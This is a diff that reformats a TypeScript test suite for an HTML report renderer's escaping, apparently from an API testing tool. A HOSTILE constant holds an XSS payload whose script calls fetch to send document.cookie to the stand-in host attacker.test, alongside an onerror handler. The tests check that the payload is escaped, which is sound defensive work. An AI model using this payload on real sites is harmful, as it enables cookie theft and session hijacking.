@@ -13,7 +13,8 @@ import { BODY_BYTES_SHOWN, clipBody } from '../../src/report/html/layout.js';
 import { html, raw } from '../../src/report/html/markup.js';
 
 const HOSTILE = `</pre></td><script>fetch('http://attacker.test/'+document.cookie)</script><img src="http://attacker.test/x.png" onerror="alert(1)">'"&`;
-const ESCAPED = '&lt;/pre&gt;&lt;/td&gt;&lt;script&gt;fetch(&#39;http://attacker.test/&#39;+document.cookie)&lt;/script&gt;&lt;img src=&quot;http://attacker.test/x.png&quot; onerror=&quot;alert(1)&quot;&gt;&#39;&quot;&amp;';
+const ESCAPED =
+  '&lt;/pre&gt;&lt;/td&gt;&lt;script&gt;fetch(&#39;http://attacker.test/&#39;+document.cookie)&lt;/script&gt;&lt;img src=&quot;http://attacker.test/x.png&quot; onerror=&quot;alert(1)&quot;&gt;&#39;&quot;&amp;';
 
 /** Nothing in the page may run or load: no script, image, link, iframe or inline handler as markup. */
 function expectInert(page: string): void {
@@ -25,7 +26,9 @@ function expectInert(page: string): void {
 describe('the html template', () => {
   it('escapes every value, in text and in attributes, and keeps its own markup', () => {
     const attribute = 'x" onclick="alert(1)';
-    const out = html`<p class="${attribute}">${HOSTILE}${[1, ' & ', null, undefined, false]}${html`<b>${'<i>'}</b>`}${raw('<hr>')}</p>`.text;
+    const out =
+      html`<p class="${attribute}">${HOSTILE}${[1, ' & ', null, undefined, false]}${html`<b>${'<i>'}</b>`}${raw('<hr>')}</p>`
+        .text;
     expect(out).toBe(`<p class="x&quot; onclick=&quot;alert(1)">${ESCAPED}1 &amp; <b>&lt;i&gt;</b><hr></p>`);
   });
 });
@@ -35,7 +38,15 @@ describe('reports with hostile data', () => {
     const report: DiffReport = {
       old: { file: HOSTILE, title: HOSTILE, version: '1' },
       new: { file: 'new.yaml', title: 'API', version: '2' },
-      changes: [{ id: 'request-type-changed', breaking: true, operation: `POST /${HOSTILE}`, location: HOSTILE, message: HOSTILE }],
+      changes: [
+        {
+          id: 'request-type-changed',
+          breaking: true,
+          operation: `POST /${HOSTILE}`,
+          location: HOSTILE,
+          message: HOSTILE,
+        },
+      ],
       breaking: 1,
     };
     const page = diffReportHtml(report);
@@ -57,8 +68,21 @@ describe('reports with hostile data', () => {
           id: 1,
           at: '2030-01-01T00:00:00.000Z',
           operation: HOSTILE,
-          request: { method: 'POST', url: `/${HOSTILE}`, headers: { [HOSTILE]: HOSTILE }, body: HOSTILE, bodyBytes: 10, truncated: false },
-          response: { status: 500, headers: { 'content-type': 'text/html' }, body: long, bodyBytes: Buffer.byteLength(long), truncated: false },
+          request: {
+            method: 'POST',
+            url: `/${HOSTILE}`,
+            headers: { [HOSTILE]: HOSTILE },
+            body: HOSTILE,
+            bodyBytes: 10,
+            truncated: false,
+          },
+          response: {
+            status: 500,
+            headers: { 'content-type': 'text/html' },
+            body: long,
+            bodyBytes: Buffer.byteLength(long),
+            truncated: false,
+          },
           durationMs: 3,
           violations: [{ side: 'response', check: 'not_a_server_error', message: HOSTILE }],
           warnings: [],
@@ -67,7 +91,11 @@ describe('reports with hostile data', () => {
       ],
       dropped: 0,
       operations: [{ operation: HOSTILE, exchanges: 1, violations: 1, totalMs: 3, maxMs: 3 }],
-      coverage: { operations: [], totals: { statuses: zero, contentTypes: zero, parameters: zero, constraints: zero, overall: zero }, phases: [] },
+      coverage: {
+        operations: [],
+        totals: { statuses: zero, contentTypes: zero, parameters: zero, constraints: zero, overall: zero },
+        phases: [],
+      },
     };
     const page = proxyReportHtml(report);
     expectInert(page);
@@ -96,19 +124,28 @@ describe('the verdict of a test report', () => {
     stoppedAtFirstFailure: false,
     constraints: [],
     timings: [],
-    coverage: { operations: [], totals: { statuses: zero, contentTypes: zero, parameters: zero, constraints: zero, overall: zero }, phases: [] },
+    coverage: {
+      operations: [],
+      totals: { statuses: zero, contentTypes: zero, parameters: zero, constraints: zero, overall: zero },
+      phases: [],
+    },
     ...changes,
   });
-  const verdict = (page: string) => /<div class="verdict (passed|failed)"[^>]*>\n<p class="headline">([^<]*)<\/p>/.exec(page)!.slice(1);
+  const verdict = (page: string) =>
+    /<div class="verdict (passed|failed)"[^>]*>\n<p class="headline">([^<]*)<\/p>/.exec(page)!.slice(1);
 
   it('passes only a complete run with no failure that met its gate', () => {
     expect(verdict(testReportHtml(report()))).toEqual(['passed', 'The target conforms']);
-    expect(verdict(testReportHtml(report({ interrupted: true })))).toEqual(['failed', 'No contract failures in what was tested, but the run was cut short']);
-    expect(verdict(testReportHtml(report(), { coverageShortfall: 'coverage 12% is below --min-coverage 80%' }))).toEqual([
+    expect(verdict(testReportHtml(report({ interrupted: true })))).toEqual([
       'failed',
-      'The target conforms, but coverage is below the gate',
+      'No contract failures in what was tested, but the run was cut short',
     ]);
-    expect(testReportHtml(report({ interrupted: true }))).toContain('<li>stopped early by --max-time: not everything selected was tested (0 operation(s) untested)</li>');
+    expect(
+      verdict(testReportHtml(report(), { coverageShortfall: 'coverage 12% is below --min-coverage 80%' })),
+    ).toEqual(['failed', 'The target conforms, but coverage is below the gate']);
+    expect(testReportHtml(report({ interrupted: true }))).toContain(
+      '<li>stopped early by --max-time: not everything selected was tested (0 operation(s) untested)</li>',
+    );
   });
 });
 
